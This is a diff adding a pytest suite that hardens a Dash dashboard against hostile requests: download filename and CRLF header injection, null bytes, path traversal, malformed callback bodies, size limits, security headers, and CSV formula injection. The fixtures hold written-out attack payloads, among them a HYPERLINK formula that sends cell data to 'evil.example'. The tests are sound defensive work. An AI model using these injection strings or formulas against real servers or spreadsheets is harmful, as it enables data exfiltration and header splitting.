@@ -1,0 +1,455 @@
+"""Hostile requests: download names, unknown paths, malformed callbacks, limits, headers, formulas.
+
+Each case is one the issue reproduced on the old server (a header injection, a 500, a leak).
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import hashlib
+import io
+import json
+import runpy
+import shutil
+import sys
+import urllib.request
+import zipfile
+from collections import OrderedDict
+from html.parser import HTMLParser
+from pathlib import Path
+
+import brotli
+import pandas as pd
+import pytest
+from selenium.webdriver.support.ui import Select, WebDriverWait
+
+from dashboard import security
+from dashboard.context import build_context
+from dashboard.data import load_tables
+from dashboard.factory import PAGES, create_app
+from dashboard.state import valid_control
+from tests.dashboard.conftest import outputs_spec
+from tests.dashboard.test_browser import ALL_DRAWN, HEADINGS
+
+ROOT = Path(__file__).resolve().parents[2]
+ROUTER = ".._pages_content.children..._pages_store.data.."
+EPISODES_OUT = (
+    "..episodes-table.children...episodes-barrels.figure...episodes-value.figure"
+    "...episodes-table-download.href...episodes-barrels-download.href"
+    "...episodes-value-download.href.."
+)
+OVERVIEW_DATES = "..overview-start.value...overview-end.value.."
+
+
+def _router(client, pathname: str, search: object) -> object:
+    body = {
+        "output": ROUTER,
+        "outputs": outputs_spec(ROUTER),
+        "inputs": [
+            {"id": "_pages_location", "property": "pathname", "value": pathname},
+            {"id": "_pages_location", "property": "search", "value": search},
+        ],
+        "changedPropIds": ["_pages_location.pathname"],
+    }
+    return client.post("/_dash-update-component", json=body)
+
+
+def _episodes(model: object, price: object, level: object) -> dict:
+    values = {"model": model, "price": price, "level": level}
+    return {
+        "output": EPISODES_OUT,
+        "outputs": outputs_spec(EPISODES_OUT),
+        "inputs": [
+            {"id": f"episodes-{k}", "property": "value", "value": v} for k, v in values.items()
+        ],
+        "changedPropIds": ["episodes-level.value"],
+    }
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "price=x%22%3B%20filename*%3DUTF-8%27%27invoice.bat%3B%20x%3D%22",
+        "model=%E2%82%AC",
+        "model=a%0d%0aX-Evil:%201",
+        "model=a%00b",
+        "level=95%25",
+        "level=nan",
+        "episode=1999",
+        "episode=2020&episode=2018",
+    ],
+)
+def test_unknown_filter_values_are_refused_without_a_file_name(client, query):
+    for table in ("events", "daily_impact"):
+        r = client.get(f"/download/{table}.csv?{query}")
+        assert r.status_code == 400, (table, query)
+        assert "Content-Disposition" not in r.headers
+        assert len(r.data) < 100 and b"Traceback" not in r.data
+
+
+def test_spellings_of_a_level_are_one_selection(client):
+    a = client.get("/download/daily_impact.csv?level=0.95")
+    b = client.get("/download/daily_impact.csv?level=0.95000&v=2")
+    assert a.status_code == b.status_code == 200 and a.data == b.data
+    assert b.headers["Content-Disposition"] == 'attachment; filename="daily_impact_0.95.csv"'
+
+
+def test_filter_on_a_column_the_table_lacks_names_nothing(client, processed):
+    r = client.get("/download/events.csv?model=mean")
+    assert r.headers["Content-Disposition"] == 'attachment; filename="events.csv"'
+    assert r.data == (processed / "events.csv").read_bytes()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/_x",
+        "/_",
+        "/_/",
+        "/_dash-foo",
+        "/_dash-update-component",
+        "/download/",
+        "/_dash-component-suites/dash/../../README.md",
+        "/_dash-component-suites/../../pyproject.toml",
+        "/_dash-component-suites/dash/nope.js",
+        "/models/extra",
+    ],
+)
+def test_unknown_paths_are_404(client, path):
+    r = client.get(path)
+    assert r.status_code == 404
+    assert b"_dash-config" not in r.data and b"Traceback" not in r.data
+
+
+@pytest.mark.parametrize("_mod,path,_label", PAGES)
+def test_any_query_key_opens_every_page(client, _mod, path, _label):
+    r = _router(client, path, "?ctx=1&episode=2018&episode=2020&layout=x")
+    assert r.status_code == 200
+    text = r.get_data(as_text=True)
+    assert "Unknown parameter 'ctx' ignored." in text
+    assert "'episode' was given more than once" in text
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"not json",
+        b"[1, 2]",
+        b"null",
+        b"[" * 50_000 + b"]" * 50_000,
+        json.dumps({"output": "nope.children", "inputs": []}).encode(),
+        json.dumps({"output": ROUTER, "outputs": [], "inputs": []}).encode(),
+        json.dumps({"output": ROUTER, "outputs": outputs_spec(ROUTER), "inputs": {}}).encode(),
+        json.dumps(
+            {"output": ROUTER, "outputs": outputs_spec(ROUTER), "inputs": [{"id": "x"}]}
+        ).encode(),
+    ],
+    ids=["text", "list", "null", "deep", "unknown", "outputs", "inputs-dict", "no-property"],
+)
+def test_malformed_callback_bodies_are_400(client, body):
+    r = client.post("/_dash-update-component", data=body, content_type="application/json")
+    assert r.status_code == 400
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        ("mean", "brent", "0.95x"),  # float('0.95x') in the old episodes table
+        ("mean", "brent", ["0.95"]),
+        (["mean"], "brent", "0.95"),
+        ({"a": 1}, "brent", "0.95"),
+        ("mean", "brent", True),
+        ("mean", "nope", "0.95"),
+    ],
+)
+def test_wrong_control_values_are_400(client, values):
+    r = client.post("/_dash-update-component", json=_episodes(*values))
+    assert r.status_code == 400
+    assert b"Invalid value for episodes-" in r.data
+
+
+def test_a_level_number_or_text_is_accepted(client):
+    for level in ("0.95", 0.95, "0.950"):
+        r = client.post("/_dash-update-component", json=_episodes("mean", "brent", level))
+        assert r.status_code in (200, 204), level  # 204: a spelling with no precomputed view
+
+
+@pytest.mark.parametrize(
+    "pathname,search",
+    [({"a": 1}, ""), (["/"], ""), ("models", ""), ("/", ["?x=1"]), (None, "")],
+)
+def test_router_location_must_be_text(client, pathname, search):
+    assert _router(client, pathname, search).status_code == 400
+
+
+def test_dates_must_be_iso(client):
+    body = {
+        "output": OVERVIEW_DATES,
+        "outputs": outputs_spec(OVERVIEW_DATES),
+        "inputs": [{"id": "overview-episode", "property": "value", "value": "2018"}],
+        "changedPropIds": ["overview-episode.value"],
+    }
+    assert client.post("/_dash-update-component", json=body).status_code == 200
+    sync = '..{"page":"overview","type":"page-query"}.data...overview-input-notes.children..'
+    fields = ("episode", "model", "price", "level", "start", "end", "events")
+    values = ["2020", "mean", "brent", "0.95", "18/01/2020", "2020-09-18", ["blockade"]]
+    body = {
+        "output": sync,
+        "outputs": outputs_spec(sync),
+        "inputs": [
+            {"id": f"overview-{f}", "property": "value", "value": v}
+            for f, v in zip(fields, values, strict=True)
+        ],
+        "state": [{"id": {"page": "overview", "type": "page-query"}, "property": "data"}],
+        "changedPropIds": ["overview-start.value"],
+    }
+    body["state"][0]["value"] = "?episode=2020"
+    r = client.post("/_dash-update-component", json=body)
+    assert r.status_code == 400 and b"overview-start.value" in r.data
+    body["inputs"][4]["value"] = "2020-01-18"
+    assert client.post("/_dash-update-component", json=body).status_code == 200
+
+
+def test_body_over_the_limit_is_413(client):
+    big = json.dumps({"output": ROUTER, "pad": "x" * 300_000})
+    r = client.post("/_dash-update-component", data=big, content_type="application/json")
+    assert r.status_code == 413
+
+
+class _Scripts(HTMLParser):
+    """Inline <script> bodies of a page, found by an HTML parser (not the server's regex)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.inline: list[str] = []
+        self._open = False
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self._open = tag == "script" and "src" not in dict(attrs)
+        if self._open:
+            self.inline.append("")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._open = False
+
+    def handle_data(self, data: str) -> None:
+        if self._open:
+            self.inline[-1] += data
+
+
+def _directives(csp: str) -> dict[str, list[str]]:
+    return {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
+
+
+def test_security_headers_on_every_kind_of_response(client):
+    responses = {
+        "page": client.get("/"),
+        "download": client.get("/download/events.csv"),
+        "404": client.get("/nope"),
+        "asset": client.get("/assets/app.css"),
+        "callback 400": client.post("/_dash-update-component", json=[1]),
+    }
+    for kind, r in responses.items():
+        assert r.headers["X-Content-Type-Options"] == "nosniff", kind
+        assert r.headers["X-Frame-Options"] == "DENY", kind
+        assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin", kind
+        csp = _directives(r.headers["Content-Security-Policy"])
+        assert csp["frame-ancestors"] == ["'none'"] and csp["object-src"] == ["'none'"], kind
+        assert "'unsafe-inline'" not in csp["script-src"], kind
+        r.close()  # a static file is streamed from an open file
+
+
+def test_csp_allows_exactly_the_inline_scripts_of_the_page(client):
+    r = client.get("/")
+    assert sys.version not in r.get_data(as_text=True)  # no Python build in the page
+    parser = _Scripts()
+    parser.feed(r.get_data(as_text=True))
+    assert len(parser.inline) >= 2  # Dash's config and its renderer at least
+    wanted = {
+        "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
+        for s in parser.inline
+    }
+    allowed = _directives(r.headers["Content-Security-Policy"])["script-src"]
+    assert set(allowed) == {"'self'"} | wanted
+
+
+def test_responses_are_compressed_when_the_client_accepts_it(client):
+    plain = client.get("/download/daily_impact.csv")
+    br = client.get("/download/daily_impact.csv", headers={"Accept-Encoding": "br"})
+    gz = client.get("/", headers={"Accept-Encoding": "gzip"})
+    assert br.headers["Content-Encoding"] == "br" and len(br.data) < len(plain.data) / 4
+    assert brotli.decompress(br.data) == plain.data
+    assert gz.headers["Content-Encoding"] == "gzip"
+    assert b'<script id="_dash-config"' in gzip.decompress(gz.data)
+    assert "Accept-Encoding" in br.headers["Vary"]
+
+
+def test_fingerprinted_files_are_cacheable_for_a_year(client):
+    page = client.get("/").get_data(as_text=True)
+    script = page.split('<script src="')[1].split('"')[0]
+    assert ".v" in script  # Dash's fingerprint: name.v<version>m<mtime>.js
+    for url in (script, "/assets/app.css?m=1"):
+        with client.get(url) as r:
+            assert r.status_code == 200
+            assert r.cache_control.max_age == 365 * 24 * 3600 and r.cache_control.immutable, url
+    with client.get("/assets/app.css") as r:
+        assert not r.cache_control.immutable
+
+
+def test_downloads_carry_etags_and_answer_304(client, processed):
+    listed = {
+        o["file"]: o["sha256"]
+        for o in json.loads((processed / "manifest.json").read_text())["outputs"]
+    }
+    whole = client.get("/download/episodes.csv")
+    assert whole.headers["ETag"] == f'"{listed["episodes.csv"]}"'
+    assert whole.cache_control.public and whole.cache_control.max_age > 0
+    again = client.get("/download/episodes.csv", headers={"If-None-Match": whole.headers["ETag"]})
+    assert again.status_code == 304 and again.data == b""
+    part = client.get("/download/daily_impact.csv?episode=2018&model=mean&price=brent&level=0.8")
+    assert part.headers["ETag"] == f'"{hashlib.sha256(part.data).hexdigest()}"'
+    zipped = client.get("/download/all.zip")
+    assert zipped.headers["ETag"] == f'"{hashlib.sha256(zipped.data).hexdigest()}"'
+    tag = client.get("/download/events.csv", headers={"Accept-Encoding": "br"}).headers["ETag"]
+    cached = client.get(
+        "/download/events.csv", headers={"Accept-Encoding": "br", "If-None-Match": tag}
+    )
+    assert cached.status_code == 304
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "description": "@SUM(1+1)",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_client(processed, tmp_path_factory):
+    """The app on tables whose text cells hold formulas, as a hand edit could leave them."""
+    folder = tmp_path_factory.mktemp("hostile")
+    shutil.copytree(processed, folder, dirs_exist_ok=True)
+    path = folder / "events.csv"
+    events = pd.read_csv(path, dtype=str, keep_default_na=False)
+    for column, value in HOSTILE.items():
+        events.loc[0, column] = value
+    events.loc[1, "title"] = "-1 plus"
+    events.loc[2, "title"] = "\ttab"
+    events.to_csv(path, index=False, lineterminator="\n")
+    daily = pd.read_csv(folder / "daily_impact.csv", dtype=str, keep_default_na=False)
+    daily.loc[0, "lost_bpd"] = "-400000.0"  # a negative number: not text, never touched
+    daily.to_csv(folder / "daily_impact.csv", index=False, lineterminator="\n")
+    return create_app(build_context(load_tables(folder))).server.test_client(), folder
+
+
+def test_formula_cells_are_neutralised_in_downloads(hostile_client):
+    hostile_client, _ = hostile_client
+    body = hostile_client.get("/download/events.csv").data
+    zipped = zipfile.ZipFile(io.BytesIO(hostile_client.get("/download/all.zip").data))
+    for served in (body, zipped.read("events.csv")):
+        got = pd.read_csv(io.BytesIO(served), dtype=str, keep_default_na=False)
+        for column, value in HOSTILE.items():
+            assert got.loc[0, column] == "'" + value
+        assert got.loc[1, "title"] == "'-1 plus"
+        assert got.loc[2, "title"] == "'\ttab"
+        assert (
+            not got[["title", "description"]]
+            .apply(lambda s: s.str.match(r"[=+\-@\t\r]"))
+            .any(axis=None)
+        )
+
+
+def test_numbers_stay_numbers(hostile_client):
+    hostile_client, folder = hostile_client
+    r = hostile_client.get("/download/daily_impact.csv")
+    assert r.data == (folder / "daily_impact.csv").read_bytes()
+    assert b",-400000.0," in r.data
+    part = hostile_client.get("/download/daily_impact.csv?episode=2018&model=mean&level=0.8")
+    assert b",-400000.0," in part.data
+
+
+def test_gunicorn_config(monkeypatch):
+    import gunicorn.http.wsgi
+
+    monkeypatch.setattr(gunicorn.http.wsgi, "SERVER", gunicorn.http.wsgi.SERVER)
+    monkeypatch.setattr(gunicorn.http.wsgi, "SERVER_SOFTWARE", gunicorn.http.wsgi.SERVER_SOFTWARE)
+    conf = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
+    assert conf["worker_class"] == "gthread" and conf["threads"] >= 4
+    assert conf["timeout"] <= 30 and conf["control_socket_disable"] is True
+    assert conf["limit_request_line"] <= 8190 and conf["limit_request_fields"] <= 100
+    for name in ("SERVER", "SERVER_SOFTWARE"):
+        assert "gunicorn" not in getattr(gunicorn.http.wsgi, name)
+
+
+@pytest.mark.browser
+def test_every_page_runs_under_the_csp(dash_duo, app):
+    """Real Chromium: each page, its charts and a callback work with no CSP violation logged."""
+    dash_duo.start_server(app)
+    with urllib.request.urlopen(dash_duo.server_url + "/") as r:
+        assert "'sha256-" in _directives(r.headers["Content-Security-Policy"])["script-src"][1]
+    for _, path, _ in PAGES:
+        dash_duo.driver.get(dash_duo.server_url + path)
+        dash_duo.wait_for_text_to_equal("#main h1", HEADINGS[path], timeout=10)
+        if path == "/":
+            WebDriverWait(dash_duo.driver, 15).until(
+                lambda d: d.execute_script(ALL_DRAWN), "charts never drawn"
+            )
+            Select(dash_duo.find_element("#overview-episode")).select_by_value("2018")
+            dash_duo.wait_for_text_to_equal("#kpi-days", "28 days")
+    assert dash_duo.get_logs() == []
+
+
+def test_fixed_bodies_are_compressed_once(client, monkeypatch):
+    import flask_compress.flask_compress as fc
+
+    calls: list[str] = []
+    compress = fc._compress_data
+
+    def counted(app: object, data: bytes, algorithm: str) -> bytes:
+        calls.append(algorithm)
+        return compress(app, data, algorithm)
+
+    monkeypatch.setattr(fc, "_compress_data", counted)
+    monkeypatch.setattr(security._CompressedCache, "items", OrderedDict())  # empty, for this test
+    monkeypatch.setattr(security._CompressedCache, "size", 0)
+    page = client.get("/").get_data(as_text=True)
+    script = page.split('<script src="')[1].split('"')[0]
+    br = {"Accept-Encoding": "br"}
+    for url in (script, script, "/download/prices.csv?v=1", "/download/prices.csv?v=2"):
+        assert client.get(url, headers=br).headers["Content-Encoding"] == "br"
+    assert calls == ["br", "br"]  # once for the component file, once for the table
+    client.get("/_dash-layout", headers=br)
+    client.get("/_dash-layout", headers=br)
+    assert len(calls) == 4  # a dynamic response is compressed every time
+
+
+@pytest.mark.parametrize(
+    "field,value,ok",
+    [
+        ("episode", "2018", True),
+        ("episode", None, True),  # a cleared control
+        ("episode", "1999", False),
+        ("episode", ["2018"], False),
+        ("model", "mean", True),
+        ("model", {"a": 1}, False),
+        ("price", "brent_less_es_sider_diff", True),
+        ("price", 1, False),
+        ("level", "0.8", True),
+        ("level", 0.8, True),
+        ("level", "0.80", True),
+        ("level", "0.5", False),
+        ("level", "0.95x", False),
+        ("level", True, False),
+        ("level", [0.8], False),
+        ("start", "2020-01-18", True),
+        ("start", "2020-02-30", False),
+        ("start", 20200118, False),
+        ("events", ["ceasefire", "restart"], True),
+        ("events", [], True),
+        ("events", ["ceasefire", "nope"], False),
+        ("events", "ceasefire", False),
+        ("events", [["ceasefire"]], False),
+    ],
+)
+def test_valid_control(ctx, field, value, ok):
+    assert valid_control(field, value, ctx.opts) is ok
